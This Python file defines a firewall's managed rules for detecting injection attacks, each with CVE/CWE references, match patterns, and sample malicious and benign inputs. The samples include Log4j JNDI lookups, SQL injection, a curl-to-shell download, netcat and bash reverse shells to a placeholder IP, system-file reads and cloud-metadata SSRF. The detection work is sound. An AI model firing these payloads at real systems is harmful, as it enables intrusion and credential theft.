"""Managed rules about values and paths that another program might take for its own language."""

from fastgw.managed.row import DECODED, LOWER, VALUES, Example, ManagedRule, among, either, matching, sent

RULES = (
    ManagedRule(
        "injection-jndi",
        "A look-up that makes Log4j fetch code.",
        ("CVE-2021-44228", "CWE-917"),
        either("${jndi:", "$%7bjndi:"),
        "block",
        (
            sent("x-api-version", "${jndi:ldap://192.0.2.1/a}"),
            sent("user-data", "%24%7Bjndi%3Adns%3A//x%7D"),
            Example("/a.B/Do?q=${jndi:rmi://x}"),
        ),
        (sent("x-note", "jndi: a name"), sent("x-template", "${code}")),
    ),
    ManagedRule(
        "injection-jndi-hidden",
        "The same, put together from pieces.",
        ("CVE-2021-45046", "CWE-917"),
        either("${${", "${lower:", "${upper:", "${::-", "${env:", "${sys:", "${main:", "${ctx:"),
        "block",
        (
            sent("x-a", "${${lower:j}ndi:ldap://x}"),
            sent("x-a", "${${::-j}${::-n}di:dns://x}"),
            sent("x-a", "${env:AWS_SECRET_ACCESS_KEY}"),
        ),
        (sent("x-a", "{{lower: 1}}"), sent("x-a", "env:prod")),
    ),
    ManagedRule(
        "injection-sql-union",
        "SQL: a second query glued to the first.",
        ("CWE-89",),
        matching(
            r"\bunion(\s|/\*[^*]*\*/)+(all\s+|distinct\s+)?select(\s|/\*[^*]*\*/|\()+['\"0-9a-z_@*(]+\s*(,|from\b|--|#|$)"
        ),
        "block",
        (
            sent("x-id", "1 UNION SELECT password, 2 FROM users"),
            sent("x-id", "-1'/**/union/**/select/**/1,2,3--"),
            Example("/a.B/Do?id=1+union+all+select+null,null--"),
        ),
        (
            sent("x-note", "Select the best from our union of shops"),
            sent("x-note", "the union selected a speaker"),
            sent("x-note", "the student union select committee"),
        ),
    ),
    ManagedRule(
        "injection-sql-always-true",
        "SQL: a quote, then a condition that always holds.",
        ("CWE-89",),
        matching(
            r"['\"]\s*\)*\s*(or|and)\s+\(*\s*(['\"][^'\"\n]{0,32}['\"]?|[0-9]+)\s*(=|like\b|<|>)\s*\(*\s*['\"0-9]"
        ),
        "block",
        (
            sent("x-user", "admin' OR '1'='1"),
            sent("x-user", "x') or 1=1 -- "),
            sent("x-id", "1%27%20and%201%3D2"),
        ),
        (
            sent("x-note", "it's 1 = 1 to 10 o'clock -- or later"),
            sent("x-note", "'this' or 'that' is fine"),
            sent("x-filter", "a = 'b' and c = 1"),
        ),
    ),
    ManagedRule(
        "injection-sql-stacked",
        "SQL: a statement behind the end of another.",
        ("CWE-89",),
        matching(
            r";\s*(drop\s+(table|database|user)|truncate\s+table|alter\s+table|insert\s+into|delete\s+from"
            r"|exec(ute)?\s+(xp_|sp_|immediate)|shutdown\s*(--|;|\n|$))"
        ),
        "block",
        (
            sent("x-name", "Robert'); DROP TABLE students;--"),
            sent("x-id", "1;delete from users where 1=1"),
            sent("x-id", "1; exec xp_cmdshell 'dir'"),
        ),
        (
            sent("x-note", "drop in or update your table; insert coins"),
            sent("x-note", "drop table reservations"),
        ),
    ),
    ManagedRule(
        "injection-sql-function",
        "SQL: functions that wait, read files or run programs.",
        ("CWE-89",),
        matching(
            r"\b((pg_)?sleep\s*\(\s*[0-9]|benchmark\s*\(\s*[0-9]|waitfor\s+delay\s+['\"]|xp_cmdshell\b"
            r"|load_file\s*\(|(extractvalue|updatexml)\s*\(|into\s+(out|dump)file\s)"
        ),
        "block",
        (
            sent("x-id", "1 AND SLEEP(5)"),
            sent("x-id", "1; SELECT pg_sleep(10)"),
            sent("x-id", "1' waitfor delay '0:0:5'"),
            sent("x-id", "load_file('/etc/hosts')"),
        ),
        (sent("x-note", "sleep (well) and benchmark often"), sent("x-note", "wait for delay")),
    ),
    ManagedRule(
        "injection-sql-schema",
        "SQL: questions about how a database is made.",
        ("CWE-89",),
        either("information_schema.", "pg_catalog.", "sqlite_master", "sys.objects", "sysibm.", "@@version"),
        "log",
        (sent("x-id", "1 and (select count(*) from information_schema.tables)"), sent("x-id", "@@version")),
        (sent("x-note", "the information schema"), sent("x-id", "sqlite")),
    ),
    ManagedRule(
        "injection-sql-tail",
        "SQL: a quote, then a comment that swallows the rest.",
        ("CWE-89",),
        matching(r"['\"]\s*\)*\s*;?\s*(--|/\*)(\s|\+|-|$)"),
        "log",
        (sent("x-user", "admin' -- "), sent("x-user", "admin');-- -")),
        (sent("x-note", "o'clock -- or later"), sent("x-note", "rock 'n' roll -2")),
    ),
    ManagedRule(
        "injection-shell-substitution",
        "A shell is to run a program and take its output.",
        ("CWE-78",),
        matching(
            r"(\$\(|`)\s*(/(usr/)?bin/)?(id|whoami|uname|curl|wget|nslookup|ping|bash|sh|nc|cat|ls|env|printenv|python3?"
            r"|perl|sleep)\b[^)`\n]{0,200}[)`]"
        ),
        "block",
        (sent("x-a", "$(curl http://192.0.2.1/x|sh)"), sent("x-a", "`id`"), sent("x-a", "a%60whoami%60")),
        (sent("x-a", "$(price)"), sent("x-a", "`identifier`"), sent("x-a", "costs $ (cat food)")),
    ),
    ManagedRule(
        "injection-shell-chain",
        "A shell is to run a second program.",
        ("CWE-78",),
        matching(
            r"[;|&]\s*(cat\s+/|wget\s+(-|http)|curl\s+(-|http)|nc\s+-|(ba)?sh\s+-[ci]|/bin/|/usr/bin/|whoami\s*($|[;|&\n])"
            r"|id\s*($|[;|&\n])|powershell(\.exe)?\s|cmd(\.exe)?\s*/c|ping\s+-[cn]|nslookup\s)"
        ),
        "block",
        (
            sent("x-a", "a; cat /etc/hosts"),
            sent("x-a", "x|nc -e /bin/sh 192.0.2.1 4444"),
            sent("x-a", "&& wget http://x/y"),
            sent("x-a", "1;id"),
        ),
        (
            sent("x-note", "cat and dog / bash & friends | see chapter 4"),
            sent("x-params", "a=1;idle=2&pingback=on"),
            sent("cookie", "a=b; id=7; cat=/toys"),
        ),
    ),
    ManagedRule(
        "injection-shell-net",
        "A shell that talks to the network.",
        ("CWE-78", "CWE-506"),
        either(
            "/dev/tcp/", "/dev/udp/", "bash -i >&", "mkfifo /tmp/", "-e /bin/sh", "-e /bin/bash", "|base64 -d"
        ),
        "block",
        (sent("x-a", "bash -i >& /dev/tcp/192.0.2.1/4242 0>&1"), sent("x-a", "mkfifo /tmp/f")),
        (sent("x-a", "dev/tcp"), sent("x-a", "bash -i")),
    ),
    ManagedRule(
        "injection-system-file",
        "Files that tell about a machine.",
        ("CWE-22", "CWE-200"),
        either(
            "/etc/passwd",
            "/etc/shadow",
            "/proc/self/",
            "/etc/group",
            "\\windows\\system32",
            "/windows/win.ini",
            "\\win.ini",
            "boot.ini",
        ),
        "block",
        (
            sent("x-file", "/etc/passwd"),
            Example("/a.B/Do?f=%2Fetc%2Fpasswd"),
            sent("x-f", "C:\\Windows\\System32\\cmd.exe"),
            sent("x-f", "php://filter/resource=/proc/self/environ"),
        ),
        (sent("x-files", "etc/hosts.d"), sent("x-note", "etc. passwords")),
    ),
    ManagedRule(
        "injection-traversal",
        "A value that climbs up more than one folder.",
        ("CWE-22",),
        among(DECODED, "../../", "..\\..\\", "..//..//", "....//"),
        "block",
        (
            sent("x-file", "../../../secret"),
            sent("x-file", "..%2f..%2fsecret"),
            sent("x-file", "..\\..\\secret"),
        ),
        (sent("x-files", "../shared/logo.png, ./img/a..b.png"), sent("x-note", "wait.... // then go")),
    ),
    ManagedRule(
        "injection-template",
        "A template language is to compute something.",
        ("CWE-1336",),
        matching(
            r"(\{\{|\$\{|#\{|<%=|\{%|@\()\s*['\"]?[0-9]+['\"]?\s*\*\s*['\"]?[0-9]+|__(class|globals|subclasses|mro|import"
            r"|builtins)__"
        ),
        "block",
        (
            sent("x-a", "{{7*7}}"),
            sent("x-a", "${7*7}"),
            sent("x-a", "<%= 7 * 7 %>"),
            sent("x-a", "{{''.__class__.__mro__}}"),
        ),
        (
            sent("x-template", "Dear {{first_name}}, your code is ${code} and costs #{price}"),
            sent("x-a", "__init__.py"),
            sent("x-a", "7*7=49"),
        ),
    ),
    ManagedRule(
        "injection-java-expression",
        "An expression that reaches for Java's classes.",
        ("CVE-2017-5638", "CVE-2022-22963", "CWE-917"),
        either(
            "java.lang.runtime",
            "java.lang.processbuilder",
            "getruntime(",
            "#_memberaccess",
            "@java.lang",
            "t(java.",
            "#context[",
            "javax.script.scriptenginemanager",
            "freemarker.template.utility.execute",
        ),
        "block",
        (
            sent("x-e", "T(java.lang.Runtime).getRuntime().exec('id')"),
            sent("x-e", "%{(#_memberAccess=@ognl)}"),
        ),
        (sent("x-error", "java.lang.NullPointerException at shop"), sent("x-a", "test(javascript)")),
    ),
    ManagedRule(
        "injection-markup",
        "A script in markup.",
        ("CWE-79",),
        matching(
            r"<(script|iframe|object|embed)\b|<(img|svg|body|video|input|details)\b[^>\n]{0,200}\bon[a-z]{3,20}\s*="
        ),
        "block",
        (
            sent("x-a", "<script>alert(1)</script>"),
            sent("x-a", "<svg onload=alert(1)>"),
            sent("x-a", "%3CScript%3E"),
            sent("x-a", "<img src=x onerror=alert(1)>"),
        ),
        (sent("x-note", "see <b> in chapter 4 of <scripts>"), sent("x-note", "1 < 2 on = off")),
    ),
    ManagedRule(
        "injection-xml-entity",
        "XML that reads files or hosts.",
        ("CWE-611",),
        matching(r"<!(doctype|entity)[^>\n]{0,200}(system|public|<!entity)|<!entity|<xi:include|<xsl:"),
        "block",
        (sent("x-a", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]>'), sent("x-a", "<!ENTITY % x")),
        (sent("x-a", "<!doctype html>"), sent("x-a", "entity system")),
    ),
    ManagedRule(
        "injection-php",
        "PHP code, and PHP's names for streams.",
        ("CWE-94", "CWE-98"),
        either(
            "<?php",
            "php://",
            "phar://",
            "expect://",
            "data:text/plain;base64",
            "<?=",
            "base64_decode(",
            "eval($",
        ),
        "block",
        (sent("x-a", "<?php system('id');"), sent("x-a", "php://input"), sent("x-a", "phar://x.jpg")),
        (sent("x-a", "index.php"), sent("x-a", "https://php.example.com/")),
    ),
    ManagedRule(
        "injection-ldap",
        "A filter of LDAP that ends the one before.",
        ("CWE-90",),
        either("*)(uid=", "*)(cn=", "*)(&", "*)(|", ")(|(", "*)(objectclass=", "*))%00"),
        "block",
        (sent("x-user", "*)(uid=*))(|(uid=*"), sent("x-user", "admin)(|(a=b)")),
        (sent("x-filter", "(&(a=1)(b=2))"), sent("x-a", "f(a*)(b)")),
    ),
    ManagedRule(
        "injection-nosql",
        "An operator of a document store where a value should be.",
        ("CWE-943",),
        matching(r"(\[|\"|')\$(ne|gt|gte|lt|regex|where|nin|exists|expr)(\]|\"|')\s*[:=]"),
        "log",
        (
            sent("x-q", '{"user":"a","pass":{"$ne":""}}'),
            Example("/a.B/Do?pass[$ne]=1"),
            sent("x-q", "{'$where': '1'}"),
        ),
        (sent("x-price", "$net: 5"), sent("x-q", '{"ne":1}')),
    ),
    ManagedRule(
        "injection-line-break",
        "An encoded line break with a field behind it.",
        ("CWE-93", "CWE-113"),
        f'{LOWER} matches r"(%0d%0a|%0a|%0d|\\\\r\\\\n)(set-cookie|location|content-length|content-type'
        '|transfer-encoding|host|x-[a-z-]{1,40}|http/1)(:|%3a|\\.)"',
        "block",
        (
            sent("x-a", "a%0d%0aSet-Cookie: b=c"),
            sent("x-a", "a%0aLocation%3Ahttp://x"),
            sent("x-a", "a\\r\\nX-Evil: 1"),
        ),
        (sent("x-a", "line one%0D%0Aline two: fine"), sent("x-a", "\\r\\n")),
    ),
    ManagedRule(
        "injection-serialized",
        "An object of Java, Python or .NET, serialized into plain metadata.",
        ("CWE-502",),
        f"({among(VALUES, 'rO0ABXNy', 'rO0ABXQA', 'AAEAAAD/////AQAAAA', 'gASV')} and {VALUES} matches"
        ' r"(?m)^(rO0ABX[NQ]|AAEAAAD/////AQ|gASV[A-Za-z0-9+/]A{3,5})")',
        "block",
        (
            sent("x-session", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
            sent("x-s", "AAEAAAD/////AQAAAAAAAAAMAgAAAA"),
            sent("x-s", "gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVt"),
        ),
        (sent("authorization", "Bearer xrO0ABXNy"), sent("x-s", "rO0ABC")),
    ),
    ManagedRule(
        "injection-prototype",
        "A change of JavaScript's prototypes.",
        ("CVE-2019-10744", "CWE-1321"),
        either("__proto__", "constructor.prototype", "constructor[prototype]", '"prototype":'),
        "block",
        (sent("x-a", '{"__proto__":{"admin":true}}'), Example("/a.B/Do?constructor[prototype][a]=1")),
        (sent("x-a", "a prototype of a constructor"), sent("x-a", "__prototype")),
    ),
    ManagedRule(
        "injection-cloud-metadata",
        "A link to the service that gives machines their keys.",
        ("CWE-918",),
        either(
            "//169.254.169.254",
            "//metadata.google.internal",
            "//[fd00:ec2::254]",
            "//100.100.100.200",
            "//0xa9fea9fe",
            "//2852039166",
        ),
        "block",
        (
            sent("x-url", "http://169.254.169.254/latest/meta-data/"),
            sent("x-url", "http%3A%2F%2Fmetadata.google.internal%2F"),
        ),
        (sent("x-forwarded-for", "169.254.169.254"), sent("x-a", "metadata.google.internal")),
    ),
    ManagedRule(
        "injection-url-scheme",
        "A link with a scheme that servers should not follow.",
        ("CWE-918",),
        either(
            "gopher://",
            "dict://",
            "file:///",
            "ldap://",
            "ldaps://",
            "rmi://",
            "tftp://",
            "jar:http",
            "netdoc:/",
        ),
        "log",
        (
            sent("x-url", "gopher://127.0.0.1:6379/_INFO"),
            sent("x-url", "file:///var/x"),
            sent("x-url", "jar:http://x!/y"),
        ),
        (sent("x-note", "a gopher: an animal"), sent("x-url", "https://example.com/profile///a")),
    ),
)
